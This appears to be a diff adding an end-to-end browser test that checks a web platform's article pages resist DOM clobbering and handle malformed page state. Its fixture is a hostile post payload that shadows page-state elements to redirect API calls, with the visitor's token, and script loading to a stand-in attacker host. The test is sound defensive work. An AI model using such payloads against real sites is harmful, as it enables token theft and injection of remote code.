@@ -1,0 +1,87 @@
+import Database from "better-sqlite3";
+import { join } from "node:path";
+import type { Browser } from "playwright";
+import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import { launchChromium, waitForHydration, watchPage } from "../support/browser.js";
+
+const port = inject("serverPort");
+const dataDir = inject("serverDataDir");
+const origin = `http://demo.localhost:${port}`;
+const CLOBBER_ID = 990101;
+
+/** A forged state that would send every API call, with the visitor's token, to another host. */
+const FORGED_STATE = JSON.stringify({
+  settings: { id: "demo" },
+  layout: { routes: [], routesUrl: "/_layout/x.json" },
+  baseUrls: Object.fromEntries(["main", "services", "mailer", "authorizer", "account", "drive", "remoteTables"].map((role) => [role, "http://penyerang.example/"])),
+  styledBlocks: [],
+  queries: { queries: [], mutations: [] },
+  router: { loaderData: {}, errors: null },
+});
+
+/** Shapes that shadow the page's own elements by id or name (DOM clobbering). */
+const CLOBBERING_CONTENT = [
+  "<h2>Pos yang mencoba menimpa status halaman</h2>",
+  `<div id="__PAGE_STATE__">${FORGED_STATE}</div>`,
+  `<pre id="__PAGE_SCRIPTS__">{"entry":"http://penyerang.example/x.js","modules":["http://penyerang.example/x.js"]}</pre>`,
+  '<img name="__PAGE_STATE__" src="/_platform/media/cover/kelas.svg" alt="">',
+  '<a id="root" href="http://penyerang.example/">root</a>',
+  '<form name="cookie"><input name="body"></form>',
+  "<p>Penutup.</p>",
+].join("");
+
+let browser: Browser;
+beforeAll(async () => {
+  const db = new Database(join(dataDir, "platform.sqlite"));
+  db.prepare(
+    `INSERT OR REPLACE INTO posts (id, tenant_id, slug, title, kind, type, summary, content, cover, author, published_at, active)
+     VALUES (?, 'demo', 'pos-penimpa', 'Pos penimpa status', 'news', 'pengumuman', 'Uji DOM clobbering', ?, '/_platform/media/cover/pos-penimpa.svg', 'Redaksi', '2026-11-21T09:00:00+07:00', 1)`,
+  ).run(CLOBBER_ID, CLOBBERING_CONTENT);
+  db.close();
+  browser = await launchChromium();
+});
+afterAll(async () => browser?.close());
+
+describe("the page state", () => {
+  it("cannot be shadowed by a post's markup: the page hydrates and no request leaves the site", async () => {
+    const context = await browser.newContext();
+    await context.addCookies([{ name: "access_token", value: "token-rahasia-pengunjung", url: origin }]);
+    const page = await context.newPage();
+    const watch = watchPage(page);
+    const foreign: string[] = [];
+    page.on("request", (request) => {
+      if (new URL(request.url()).host !== new URL(origin).host) foreign.push(request.url());
+    });
+    const response = await page.goto(`${origin}/News/${CLOBBER_ID}/pos-penimpa`);
+    const served = await response!.text();
+    const article = served.slice(served.indexOf("article-content"), served.indexOf("</article>"));
+    expect(article).toContain("Pos yang mencoba menimpa status halaman");
+    expect(article).toContain('id="user-content-__PAGE_STATE__"');
+    expect(article).not.toMatch(/ (id|name)="(?!user-content-)/);
+    await waitForHydration(page);
+    await expect.poll(() => page.locator("h1").textContent()).toBe("Pos penimpa status");
+    // The page works on: a client navigation loads its data from the site's own platform.
+    await page.locator('a[href="/Class"]').first().click();
+    await page.waitForURL(`${origin}/Class`);
+    await page.waitForTimeout(500);
+    expect(foreign).toEqual([]);
+    expect(watch.errors.filter((error) => !error.includes("favicon"))).toEqual([]);
+    await context.close();
+  });
+
+  it("that is malformed shows the error-page failure instead of crashing", async () => {
+    const page = await browser.newPage();
+    // The page as the server sends it, its state replaced by `{}`.
+    await page.goto(`${origin}/robots.txt`);
+    const served = await page.evaluate(() => fetch("/News").then((response) => response.text()));
+    const html = served.replace(/(<script id="__PAGE_STATE__" type="application\/json">)[\s\S]*?(<\/script>)/, "$1{}$2");
+    expect(html).toContain('<script id="__PAGE_STATE__" type="application/json">{}</script>');
+    await page.route(`${origin}/News`, (route) => route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: html }));
+    const watch = watchPage(page);
+    await page.goto(`${origin}/News`);
+    await expect.poll(() => page.locator("[data-error-page-failure]").count(), { timeout: 15_000 }).toBe(1);
+    expect(watch.errors).toEqual([`pageerror: The page's #__PAGE_STATE__ is malformed: settings.id: expected a string`]);
+    expect(await page.locator("[data-error-page-failure] pre").textContent()).toContain("settings.id: expected a string");
+    await page.close();
+  });
+});
